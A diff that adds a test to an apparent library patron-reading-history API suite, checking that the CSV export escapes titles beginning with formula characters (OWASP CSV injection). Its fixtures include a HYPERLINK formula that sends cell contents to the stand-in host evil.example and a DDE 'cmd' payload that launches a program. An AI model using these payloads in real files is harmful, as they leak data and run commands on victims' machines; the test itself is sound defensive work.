@@ -83,6 +83,22 @@ describe('the patron’s own lists', () => {
     expect((await t.http().get(`/api/t/${c.slug}/me/history`).set(c.auth).expect(200)).body.total).toBe(0);
   });
 
+  it('exports titles that start like spreadsheet formulas as text (OWASP CSV injection)', async () => {
+    const c = await cityWithPatron('kushiro', '30000003');
+    await t.http().put(`/api/t/${c.slug}/me/history/settings`).set(c.auth).send({ enabled: true, nickname: 'よむひと', termsAccepted: true }).expect(200);
+    const titles = ['=HYPERLINK("http://evil.example/?"&A1,"詳しくはこちら")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)'];
+    for (const [i, title] of titles.entries()) {
+      await c.record(title, `F-${i}`);
+      await c.checkout(`F-${i}`);
+    }
+    const csv = await t.http().get(`/api/t/${c.slug}/me/history.csv`).set(c.auth).expect(200);
+    const cells = csv.text.split('\r\n').slice(1, -1).map((line) => line.split(',')[1]);
+    // every such title is quoted and starts with an apostrophe, the whole title kept
+    expect(cells.sort()).toEqual([`"'+1+cmd|' /C calc'!A0"`, `"'-2+3"`, `"'=HYPERLINK(""http://evil.example/?""&A1`, `"'@SUM(A1:A9)"`].sort());
+    expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""詳しくはこちら"")"`);
+    expect(csv.text).not.toMatch(/(^|,)[=+\-@]/m);
+  });
+
   it('shows the reading marathon goal and progress where the city has it (Koga), and refuses it elsewhere', async () => {
     const koga = await cityWithPatron('koga', '100000123');
     await koga.record('吾輩は猫である', 'G-0001');
